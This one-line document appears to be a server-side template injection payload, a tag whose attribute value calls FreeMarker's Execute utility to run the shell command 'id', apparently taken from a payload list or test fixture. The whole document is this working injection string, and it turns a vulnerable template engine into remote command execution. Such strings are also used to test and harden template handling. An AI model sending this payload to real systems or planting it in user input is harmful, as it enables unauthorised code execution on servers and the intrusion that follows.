<BAK BAK01="${"freemarker.template.utility.Execute"?new()("id")}"/>
